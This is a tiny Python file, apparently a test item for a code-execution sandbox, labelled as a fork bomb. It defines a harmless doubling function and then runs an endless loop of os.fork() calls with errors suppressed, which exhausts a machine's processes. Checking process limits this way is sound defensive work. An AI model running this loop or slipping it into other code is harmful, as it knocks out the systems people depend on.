# A fork bomb.
# earns: answer-check=2
# limits: processes or cell
# %% double
import os
def double(n):
    return 2 * n
while True:
    try:
        os.fork()
    except OSError:
        pass
